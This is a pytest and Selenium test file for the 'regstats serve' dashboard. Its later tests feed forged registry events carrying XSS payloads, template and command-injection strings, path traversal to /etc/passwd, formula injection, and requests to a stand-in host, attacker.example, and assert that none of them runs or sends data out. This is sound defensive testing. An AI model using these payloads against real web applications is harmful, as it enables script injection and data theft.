"""The dashboard as people meet it: `regstats serve`, in a real browser."""

import base64
import itertools
import json
import os
import re
import shutil
import struct
import subprocess
import sys
import urllib.error
import urllib.request
from datetime import UTC, datetime, timedelta
from urllib.parse import quote, urlencode, urlsplit

import pytest
from makers import envelope, make_event, make_push
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys
from servers import HOST, Collector, stop

from regstats import formats, sample
from regstats.badges import METRICS as BADGES
from regstats.metrics import METRICS
from regstats.stats import Stats
from regstats.terminal import visible

NOW = "2026-11-24"
LIGHT, DARK = "rgb(255, 255, 255)", "rgb(20, 25, 31)"
PHONE = 390


def half(things, number):
    """Every other of many that are much alike; all of them with `STRESS=1`. What the one half lacks, the other has."""
    return list(things) if os.environ.get("STRESS") else list(things)[number::2]


PAGES = {
    "/": 4,
    "/repositories": 0,
    "/actors": 0,
    "/repositories?repository=team%2Fapi": 6,
    "/actors?actor=ci": 2,
    **{f"/explore/{metric}": 1 for metric in half(METRICS, 0)},
}
"""How many charts each has."""

# Scripts that see what is on a page.
ARE_DRAWN = """
return document.readyState === 'complete' && !window.left && [...document.querySelectorAll('[data-chart]')]
  .every(place => 'drawn' in place.dataset || place.textContent.includes('could not be drawn'))"""
CHARTS = """
return [...document.querySelectorAll('[data-chart]')].map(place => {
  const svg = place.querySelector('svg.main-svg'), box = svg?.getBoundingClientRect();
  return {drawn: 'drawn' in place.dataset,
    seen: Boolean(svg?.checkVisibility()) && box.width > 200 && box.height > 100};
})"""
PAPERS = """
return [...new Set([...document.querySelectorAll('[data-drawn]')]
  .map(place => getComputedStyle(place.querySelector('svg.main-svg')).backgroundColor))]"""
SERIES = """
return [...document.querySelectorAll('[data-chart]')].map(place => place._fullData.map(trace =>
  ({name: trace.name, x: [...trace.x].map(String), y: [...trace.y].map(String)})))"""
NUMBERS = """
return Object.fromEntries([...document.querySelectorAll('.numbers li')].map(item =>
  [item.querySelector('.name').textContent, item.querySelector('b').textContent]))"""
WIDTH = "return [innerWidth, document.documentElement.scrollWidth]"


class Dashboard:
    """Pages in a browser, of one server."""

    def __init__(self, browser, server):
        self.browser, self.server = browser, server

    def open(self, path):
        """Opens a page, and waits for its charts."""
        self.browser.open(self.server.url + path)
        self.settle()

    def settle(self):
        self.browser.until(lambda: self.browser.run(ARE_DRAWN))

    def leave(self, act):
        """Does what leads to another page, and waits for that."""
        self.browser.run("window.left = true")
        act()
        self.settle()

    def look(self, scheme="light", media="screen"):
        feature = {"name": "prefers-color-scheme", "value": scheme}
        self.browser.tell("Emulation.setEmulatedMedia", media=media, features=[feature])

    def resize(self, width, height=7000):
        metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
        self.browser.tell("Emulation.setDeviceMetricsOverride", **metrics)
        self.browser.until(lambda: width == self.browser.run("return innerWidth"))

    def wait_for_paper(self, colour):
        self.browser.until(lambda: self.browser.run(PAPERS) in ([colour], []))

    def shown(self):
        """The numbers, and what the charts are drawn from."""
        return self.browser.run(NUMBERS), self.browser.run(SERIES)

    def foreign(self):
        """Requests that went elsewhere."""
        asked = [urlsplit(url) for url in self.browser.requests()]
        return [url.geturl() for url in asked if url.scheme != "data" and (url.hostname, url.port) != self.server.place]

    def check_quiet(self):
        """Nobody complained, nothing left this machine, and the page fits into its window."""
        assert [] == self.browser.console()
        assert [] == self.foreign()
        width, scrolled = self.browser.run(WIDTH)
        assert scrolled <= width


@pytest.fixture
def chrome(shared_browser):
    """The browser of this module, as if it was new."""
    shared_browser.tell("Emulation.clearDeviceMetricsOverride")
    shared_browser.tell("Emulation.setEmulatedMedia", media="", features=[])
    shared_browser.forget()
    return shared_browser


@pytest.fixture(scope="module")
def sampled(tmp_path_factory):
    """A server that shows the sample, to whoever is on this machine."""
    folder = tmp_path_factory.mktemp("sampled")
    shutil.copytree(sample.path(), folder / "store")
    server = Collector(folder / "store", folder / "log", token=None, now=NOW).start()
    yield server
    stop(server.process)


@pytest.fixture
def dashboard(chrome, sampled):
    return Dashboard(chrome, sampled)


# Every page


def test_the_overview_as_a_picture(dashboard, tmp_path):
    """The one in the README, if $ARTEFACTS says where that goes."""
    dashboard.resize(1280, 1000)
    dashboard.open("/?since=90d")
    dashboard.browser.save(tmp_path / "dashboard.png")
    assert (1280, 1000) == struct.unpack(">2I", (tmp_path / "dashboard.png").read_bytes()[16:24])


@pytest.mark.parametrize("path", PAGES)
def test_a_page_in_every_look(dashboard, path):
    """Light, dark, and on a phone: all charts are there, the console is silent, and nothing is asked for elsewhere."""
    dashboard.look("light")
    dashboard.open(path)
    assert [{"drawn": True, "seen": True}] * PAGES[path] == dashboard.browser.run(CHARTS)
    assert [LIGHT] * bool(PAGES[path]) == dashboard.browser.run(PAPERS)
    dashboard.check_quiet()
    dashboard.look("dark")
    dashboard.wait_for_paper(DARK)
    dashboard.resize(PHONE)
    dashboard.check_quiet()


def test_a_page_that_is_dark_from_the_start(dashboard):
    """Its charts are, too."""
    dashboard.look("dark")
    dashboard.open("/")
    assert [{"drawn": True, "seen": True}] * 4 == dashboard.browser.run(CHARTS)
    assert [DARK] == dashboard.browser.run(PAPERS)
    dashboard.check_quiet()


def test_bars_are_to_be_seen(dashboard):
    """As large as their numbers are, one for each day and kind."""
    dashboard.open("/")
    bars = "[data-chart*='/charts/pulls'] .bars .point path"
    tall = [bar for bar in dashboard.browser.find(bars) if bar.is_displayed() and bar.rect["height"] > 1]
    assert len(tall) > 20


# Pickers


def counted(metric, column, **window):
    return int(getattr(Stats(sample.path(), now=NOW), metric)(**window)[column].sum())


def check_pulls(dashboard, **window):
    """The total, and the sum of the bars, are what the library says."""
    numbers, charts = dashboard.shown()
    pulls = counted("pulls", "pulls", **window)
    assert f"{pulls:,}" == numbers["pulls"]
    (bars,) = (trace for trace in charts[0] if trace["name"] == "pulls")
    assert pulls == sum(map(int, bars["y"]))
    return numbers, charts


def test_pickers_change_what_is_shown(dashboard, browser):
    """And the address, which shows the same to somebody else."""
    dashboard.open("/")
    month, _ = check_pulls(dashboard, since="30d")
    (week,) = (button for button in dashboard.browser.find(".windows button") if button.text == "7 days")
    dashboard.leave(week.click)
    assert f"{dashboard.server.url}/?since=7d" == dashboard.browser.driver.current_url
    assert ["7 days"] == [button.text for button in dashboard.browser.find("[aria-pressed=true]")]
    all_of_it, _ = check_pulls(dashboard, since="7d")
    dashboard.browser.find("input[name=repository]")[0].send_keys("team/a*")
    dashboard.leave(dashboard.browser.find("form .go")[0].click)
    address = dashboard.browser.driver.current_url
    assert f"{dashboard.server.url}/?since=7d&repository=team%2Fa*" == address
    some = check_pulls(dashboard, since="7d", repository="team/a*")
    assert 3 == len({numbers["pulls"] for numbers in (month, all_of_it, some[0])})
    other = Dashboard(browser, dashboard.server)
    other.browser.open(address)
    other.settle()
    assert some == other.shown()
    other.check_quiet()
    dashboard.check_quiet()


def test_back_and_forth(dashboard):
    """The browser's own buttons do what they always do, and fields can be used again."""
    dashboard.open("/?since=7d&until=1d")
    before = dashboard.browser.driver.current_url
    dashboard.leave(dashboard.browser.find(".windows button")[0].click)
    assert f"{dashboard.server.url}/?since=24h" == dashboard.browser.driver.current_url
    dashboard.browser.driver.back()
    dashboard.browser.until(lambda: before == dashboard.browser.driver.current_url)
    dashboard.browser.until(lambda: "complete" == dashboard.browser.run("return document.readyState"))
    assert [] == dashboard.browser.find("form :disabled")
    dashboard.check_quiet()


def test_tables_sort_by_their_heads(dashboard):
    """Numbers and durations by what they are, the largest first, texts from A; again the other way round; with keys."""
    dashboard.open("/explore/cadence?repository=team/*")
    frame = Stats(sample.path(), now=NOW).cadence(repository="team/*")

    def column(number):
        return [cell.text for cell in dashboard.browser.find(f"[data-sortable] td:nth-child({number})")]

    heads = dict(enumerate(dashboard.browser.find("[data-sortable] th button"), 1))
    age = [*frame.columns].index("age") + 1
    heads[age].click()
    assert formats.cells(frame["age"].sort_values(ascending=False)) == column(age)
    heads[age].send_keys(Keys.ENTER)
    assert formats.cells(frame["age"].sort_values()) == column(age)
    heads[2].click()
    missing = int(frame["tag"].isna().sum())
    assert ["2.9.0", "2.10.0"] == list(dict.fromkeys(tag for tag in column(2) if tag in ("2.9.0", "2.10.0")))
    assert [formats.MISSING] * missing == column(2)[-missing:]
    assert ["ascending"] == [head.get_attribute("aria-sort") for head in dashboard.browser.find("th[aria-sort]")]


def test_explore_as_a_form(dashboard):
    """What is chosen in it is asked; what is wrong is told, and the form stays."""
    dashboard.open("/explore/pulls")
    dashboard.browser.find("input[name=by]")[0].send_keys("client")
    dashboard.browser.find("select[name=interval]")[0].send_keys("week")
    dashboard.leave(dashboard.browser.find(".fields .go")[0].click)
    assert f"{dashboard.server.url}/explore/pulls?interval=week&by=client" == dashboard.browser.driver.current_url
    assert "client" in dashboard.browser.find("thead")[0].text
    dashboard.browser.find("input[name=by]")[0].send_keys("s")
    dashboard.leave(dashboard.browser.find(".fields .go")[0].click)
    assert "clients" in dashboard.browser.find("[role=alert]")[0].text
    assert "clients" == dashboard.browser.find("input[name=by]")[0].get_attribute("value")
    dashboard.check_quiet()


# Keyboard, and paper

FOCUSED = """
const it = document.activeElement, box = it.getBoundingClientRect(), style = getComputedStyle(it);
return {what: it.name ? `${it.name}=${it.value}` : it.textContent.trim(),
  seen: box.left >= 0 && box.width > 0 && style.outlineStyle === 'solid' && parseFloat(style.outlineWidth) >= 2}"""


def press(dashboard, *keys):
    ActionChains(dashboard.browser.driver).send_keys(*keys).perform()


def test_with_the_keyboard_alone(dashboard):
    """First the skip link, then the pages, then the pickers; where one is can be seen; Enter shows what was typed."""
    dashboard.open("/")
    stops = []
    for _ in range(16):
        press(dashboard, Keys.TAB)
        stops.append(dashboard.browser.run(FOCUSED))
    assert all(stop["seen"] for stop in stops)
    assert [
        "Skip to the numbers", "regstats", "Overview", "Repositories", "Actors", "Deployments", "Explore",
        "since=24h", "since=7d", "since=30d", "since=90d", "since=365d",
        "since=30d", "until=", "repository=", "actor=",
    ] == [stop["what"] for stop in stops]  # fmt: skip
    dashboard.leave(lambda: press(dashboard, "ci", Keys.ENTER))
    assert f"{dashboard.server.url}/?since=30d&actor=ci" == dashboard.browser.driver.current_url
    check_pulls(dashboard, since="30d", actor="ci")
    press(dashboard, Keys.TAB, Keys.ENTER)
    assert dashboard.browser.driver.current_url.endswith("#main")
    assert "main" == dashboard.browser.run("return document.activeElement.id")
    dashboard.check_quiet()


def test_on_paper_it_is_light(dashboard):
    """Also for somebody who looks at it in the dark; afterwards it is dark again."""
    dashboard.look("dark")
    dashboard.open("/")
    lights = "return performance.getEntriesByType('resource').filter(entry => entry.name.endsWith('dark=0')).length"
    dashboard.browser.until(lambda: 4 == dashboard.browser.run(lights))
    dashboard.browser.run("dispatchEvent(new Event('beforeprint'))")
    dashboard.wait_for_paper(LIGHT)
    dashboard.browser.run("dispatchEvent(new Event('afterprint'))")
    dashboard.wait_for_paper(DARK)
    pdf = base64.b64decode(dashboard.browser.tell("Page.printToPDF", printBackground=True)["data"])
    assert b"%PDF-" == pdf[:5]
    dashboard.look("dark", media="print")
    colours = "const {color, backgroundColor} = getComputedStyle(document.body); return [color, backgroundColor]"
    assert ["rgb(0, 0, 0)", LIGHT] == dashboard.browser.run(colours)
    assert not dashboard.browser.find(".pickers")[0].is_displayed()
    dashboard.check_quiet()


# What comes in


def status(url):
    """Of a page, for somebody who shows nothing."""
    try:
        with urllib.request.urlopen(url) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        with error:
            return error.code


def latest(server):
    """What a page would be told now."""
    with urllib.request.urlopen(f"{server.url}/recent") as answer:
        return json.load(answer)[0]["reference"]


RECENT = "return [...document.querySelectorAll('.recent tbody tr')].map(row => [...row.cells].map(c => c.textContent))"


def test_a_push_appears_while_somebody_looks(chrome, collector, registry, skopeo, make_image):
    """Without loading the page again, for somebody who has logged in; others see nothing."""
    collector.start()
    assert 401 == status(f"{collector.url}/")
    chrome.open(f"http://reader:{collector.token}@{HOST}:{collector.port}/")
    dashboard = Dashboard(chrome, collector)
    dashboard.settle()
    assert [] == chrome.run(RECENT)
    assert [{"drawn": True, "seen": True}] * 4 == chrome.run(CHARTS)
    chrome.run("window.mark = 'the same page'")
    skopeo.push(make_image("one"), "team/api:1.0")
    chrome.until(lambda: ["push", "team/api:1.0", "alice"] in [row[1:4] for row in chrome.run(RECENT)])
    assert "the same page" == chrome.run("return window.mark")
    assert "live" == chrome.find("[data-live]")[0].text
    dashboard.leave(chrome.find(".recent a")[0].click)
    assert "team/api" == chrome.find("h1")[0].text
    assert f"docker pull {registry.address}/team/api:1.0" == chrome.find(".copied code")[0].text
    dashboard.check_quiet()


# Names that would like to be more than names

OWN = "alert(document.title=window.owned=1)"
NAMES = [
    f"</title></style></textarea></script><script>{OWN}</script>",
    f'"><svg onload={OWN}><img src=x onerror={OWN}><a href="javascript:{OWN}">a</a><b>b</b><br>c<sub>d</sub>',
    f"'\"` autofocus tabindex=1 onfocus={OWN} onmouseover={OWN} x='\"`",
    f"javascript:{OWN}",
    "//attacker.example/<img src=//attacker.example/x><link rel=stylesheet href=//attacker.example/x>"
    "<style>@import url(//attacker.example/x)</style><!--<![CDATA[",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>%{x}$x^2$",
    f"%3Cscript%3E{OWN}%3C/script%3E&lt;script&gt;{OWN}&lt;/script&gt;",
    "team/\u202ecod.exe\u2067\u200f zero\u200bwidth\ufeff\u2060\u00ad\U000e0041",
    "nul\0bell\a\x1b[31mred\x7f\x85line\r\nline\ttab\u2028",
    '=HYPERLINK("//attacker.example")',
    "../../etc/passwd",
    "  a&b=c#d?e%41 +f;g 🦊é  ",
    "*",
    "[a-z]*?[!x]\\*",
    "--help;$(id)`id`|id>x&&id",
    "__proto__",
    "team/" + "x" * 6995,
    f"<script>{OWN}</script>" * 150,
]
OTHERS = ["constructor", "toString", "(anonymous)", "ﷺ" * 40, "@SUM(1+1)*cmd|' /C calc'!A0", "a/../../b"]
"""Of these charts are drawn."""
UNSEEN = "[\\u0000-\\u0008\\u00ad\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\ufeff]"
ADDED = """
return [...document.querySelectorAll('*')].filter(it =>
  ['script', 'img'].includes(it.localName) && !/^[/](static[/]|badge[.]svg[?])/.test(it.getAttribute('src'))
  || ['iframe', 'object', 'embed', 'base', 'sub', 'br'].includes(it.localName)
  || [...it.attributes].some(attribute => attribute.name.startsWith('on'))
  || it.localName === 'a' && (it.namespaceURI.endsWith('svg') || it.origin !== location.origin)
).map(it => it.outerHTML.slice(0, 200))"""


def forged(name, ago=timedelta(days=2)):
    """Events that somebody makes up: everything in them that is text is this."""
    at = datetime.now(UTC) - ago
    said = {"repository": name, "tag": name, "actor": name, "user_agent": name, "addr": name}
    events = []
    for number in range(2):
        where = said | {"digest": f"sha256:{number:064}"}
        events.append(make_push(**where, at=at + timedelta(hours=8 * number)))
        events.append(make_event(**where, at=at + timedelta(hours=8 * number + 1)))
    events.append(make_event(**said, at=at, action=name, method=name, id=name))
    events[0]["request"]["host"] = events[0]["source"]["instanceID"] = name
    return events


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A server to which such events were sent."""
    folder = tmp_path_factory.mktemp("attacked")
    (folder / "regstats.toml").write_text("[read]\nrate = 0\n")
    server = Collector(folder / "store", folder / "log", token=None, seal_interval=0.5)
    server.start("--config", str(folder / "regstats.toml"))
    good = [make_push(repository="good", tag=tag, at=datetime.now(UTC)) for tag in [*NAMES, "1.0"]]
    good.append(make_push(repository="good", tag="0.1", at=datetime.now(UTC) - timedelta(days=40)))
    for number, host in enumerate(["-v$(id)", "registry", "attacker.example/;id"]):
        good.append(make_push(repository=f"elsewhere-{number}", at=datetime.now(UTC)))
        good[-1]["request"]["host"] = host
    for events in [good, *map(forged, [*NAMES, *OTHERS])]:
        assert 204 == server.post(envelope(*events))
    yield server
    stop(server.process)


class Attacked(Dashboard):
    """Pages full of such names."""

    def check_harmless(self):
        """Nothing of it ran, is part of the page, or leads elsewhere; what cannot be seen is shown, as escapes."""
        assert None is self.browser.run("return window.owned ?? null")
        assert "1" != self.browser.driver.title
        assert [] == self.browser.run(ADDED)
        html = self.browser.run("return document.documentElement.outerHTML + document.title")
        assert [] == re.findall(UNSEEN, html)
        self.check_quiet()


@pytest.fixture
def forgeries(chrome, attacked):
    return Attacked(chrome, attacked)


HOVER = """
const told = [];
for (const place of document.querySelectorAll('[data-drawn]')) {
  place.calcdata.forEach((dots, curveNumber) => {
    const cells = dots[0].z?.flatMap((row, y) => [...row.keys()].filter(x => row[x] !== undefined).map(x => [y, x]));
    for (const pointNumber of cells || dots.keys()) {
      Plotly.Fx.hover(place, [{curveNumber, pointNumber}]);
      told.push(place.querySelector('.hoverlayer').textContent);
    }
  });
}
return told.join(' ');"""
MISPLACED = """
return [...document.querySelectorAll('[data-drawn]')].flatMap(place => place.calcdata.flat())
  .filter(dot => 'p' in dot && !Number.isFinite(dot.p)).length"""
FULL = {"/": 4, "/repositories": 0, "/actors": 0, **{f"/explore/{metric}": 1 for metric in half(METRICS, 1)}}
if FULL.pop("/explore/unused", None):
    FULL["/explore/unused?days=1"] = 1


@pytest.mark.parametrize("path", FULL)
def test_names_are_text(forgeries, path):
    """In tables, charts, what is told about a dot or bar, and lists of proposals; on a phone, too."""
    forgeries.open(path)
    assert [{"drawn": True, "seen": True}] * FULL[path] == forgeries.browser.run(CHARTS)
    told = forgeries.browser.run(HOVER)
    assert bool(FULL[path]) == bool(told)
    assert 0 == forgeries.browser.run(MISPLACED)
    forgeries.check_harmless()
    forgeries.resize(PHONE)
    forgeries.check_harmless()


UNTOLD = """
const text = document.querySelector('.hoverlayer .hovertext')?.textContent;
return !arguments[0].includes(text) && text"""


def test_what_the_mouse_is_over_is_told(forgeries):
    """As text, beginning with the name; a label that does not fit into its chart is not shown."""
    forgeries.open(f"/explore/repositories?repository={quote('[!<t]*')}")
    told = [""]
    for bar in (bar for bar in forgeries.browser.find(".bars .point path") if bar.rect["width"]):
        ActionChains(forgeries.browser.driver).move_to_element(bar).perform()
        told.append(forgeries.browser.until(lambda: forgeries.browser.run(UNTOLD, told)))
    named = {name for name in [*NAMES, *OTHERS] if any(text.startswith(visible(name)) for text in told)}
    assert len(named) > 10
    forgeries.check_harmless()


LINK = """
return [...document.querySelectorAll('td a')].find(a => a.textContent === arguments[0])"""
COMMANDS = "return [...document.querySelectorAll('.copied code:not([data-absolute])')].map(code => code.textContent)"
BROKEN = "return [...document.images].filter(image => !image.naturalWidth).map(image => image.src)"


def follow(forgeries, page, name):
    """From the list to the page of a name, by its link."""
    forgeries.open(page)
    link = forgeries.browser.run(LINK, visible(name))
    forgeries.leave(lambda: link.send_keys(Keys.ENTER))
    assert visible(name) == forgeries.browser.run("return document.querySelector('h1').textContent")
    assert "2" == forgeries.browser.run(NUMBERS)["pulls"]  # its own, and no other's


@pytest.mark.parametrize("name", half(NAMES, 0), ids=half(range(len(NAMES)), 0))
def test_the_page_of_such_a_repository(forgeries, name):
    """Is where its link in the list leads: with its own numbers, badges, charts, and no command to copy."""
    follow(forgeries, "/repositories", name)
    assert [{"drawn": True, "seen": True}] * 6 == forgeries.browser.run(CHARTS)
    assert [] == forgeries.browser.run(COMMANDS)
    assert [] == forgeries.browser.run(BROKEN)
    forgeries.check_harmless()


@pytest.mark.parametrize("name", half(NAMES, 1), ids=half(range(len(NAMES)), 1))
def test_the_page_of_such_an_actor(forgeries, name):
    """Too."""
    follow(forgeries, "/actors", name)
    assert [{"drawn": True, "seen": True}] * 2 == forgeries.browser.run(CHARTS)
    forgeries.check_harmless()


def test_commands_are_for_references_alone(forgeries):
    """Neither a tag, nor what somebody calls the registry, brings anything else into a shell."""
    forgeries.open("/repositories?repository=good")
    assert ["docker pull registry.example:5000/good:1.0"] == forgeries.browser.run(COMMANDS)
    for name in [*(f"elsewhere-{number}" for number in range(3)), "a/../../b"]:
        forgeries.open(f"/repositories?repository={name}")
        assert name == forgeries.browser.find("h1")[0].text
        assert [] == forgeries.browser.run(COMMANDS)
    forgeries.check_harmless()


def test_badges_are_pictures(forgeries):
    """Also opened by themselves, where a picture could have a script; each has the label that it is given."""
    for name, metric in zip(NAMES, itertools.cycle(BADGES), strict=False):
        asked = urlencode({"repository": name, "metric": metric, "label": name})
        forgeries.browser.open(f"{forgeries.server.url}/badge.svg?{asked}")
        said = forgeries.browser.run("return [...document.querySelectorAll('text')].map(text => text.textContent)")
        assert 2 == len(said)
        assert said[0].rstrip("…") == visible(name)[:60].rstrip("…")[: len(said[0].rstrip("…"))]
        forgeries.check_harmless()


FRESH = "return performance.getEntriesByType('resource').filter(entry => entry.name.includes('/recent')).length"


def test_what_was_there_does_not_come_again(forgeries):
    """Whatever its id is: a page cannot keep every character, and is asked by it what it has."""
    assert 204 == forgeries.server.post(envelope(forged("nul\0and\rreturn", timedelta())[-1]))
    # It may be seen two seconds later, and pages are kept for a moment; so one that nobody has opened yet.
    forgeries.browser.until(lambda: "nul" in latest(forgeries.server))
    forgeries.open("/?since=31d")
    assert "nul\\u0000and\\u000dreturn" == forgeries.browser.run(RECENT)[0][1]
    forgeries.browser.until(lambda: forgeries.browser.run(FRESH) >= 1)
    forgeries.browser.until(lambda: "live" == forgeries.browser.find("[data-live]")[0].text)
    assert 15 == len(forgeries.browser.run(RECENT))
    assert [] == forgeries.browser.find("tr.new")


def test_names_that_come_in_are_text(forgeries):
    """Rows that a script adds to an open page, as those of the server."""
    forgeries.open("/")
    for start in range(0, len(NAMES), 15):
        names = NAMES[start : start + 15]
        events = [forged(f"{name}-anew", timedelta())[-1] for name in names]
        assert 204 == forgeries.server.post(envelope(*events))
        expected = {visible(f"{name}-anew:{name}-anew") for name in names}
        forgeries.browser.until(lambda expected=expected: expected <= {row[2] for row in forgeries.browser.run(RECENT)})
        assert min(start + len(names), 15) == len(forgeries.browser.find("tr.new"))
        forgeries.check_harmless()


def test_scripts_in_a_page_are_not_run(forgeries):
    """If one came into it after all: neither in an element, nor in an attribute; and nothing is sent elsewhere."""
    forgeries.open("/actors")
    forgeries.browser.run("""
window.refused = [];
document.addEventListener('securitypolicyviolation', event => window.refused.push(event.effectiveDirective));
const script = document.createElement('script'), other = document.createElement('script');
script.textContent = 'window.owned = 1';
other.src = 'http://attacker.example/x.js';
document.body.append(script, other);
document.body.insertAdjacentHTML('beforeend', `<img src=data:, onerror="window.owned = 1">
<img src="http://attacker.example/x.png"><iframe srcdoc="<script>parent.owned = 1</script>"></iframe>
<form action="http://attacker.example/" id=away><button>away</button></form>`);
fetch('http://attacker.example/').catch(() => {});
document.querySelector('#away').requestSubmit();
""")
    expected = {"script-src-elem", "script-src-attr", "img-src", "connect-src", "form-action"}
    forgeries.browser.until(lambda: expected <= set(forgeries.browser.run("return window.refused")))
    assert None is forgeries.browser.run("return window.owned ?? null")


@pytest.mark.parametrize("notebook", [[], pytest.param(["--notebook", "overview"], marks=pytest.mark.slow)])
def test_a_report_of_such_names(forgeries, tmp_path, notebook):
    """A file, which may run scripts of its own: those of the names are text in it."""
    out = tmp_path / "report.html"
    command = [sys.executable, "-m", "regstats", "report", "--data", str(forgeries.server.data), "--out", str(out)]
    subprocess.run([*command, *notebook], check=True, capture_output=True)
    forgeries.browser.open(out.as_uri())
    forgeries.browser.until(lambda: forgeries.browser.find(".js-plotly-plot .main-svg"))
    assert None is forgeries.browser.run("return window.owned ?? null")
    assert "1" != forgeries.browser.driver.title
    assert [] == forgeries.browser.console()
    elsewhere = [url for url in forgeries.browser.requests() if not url.startswith((out.as_uri(), "data:", "blob:"))]
    assert [] == elsewhere
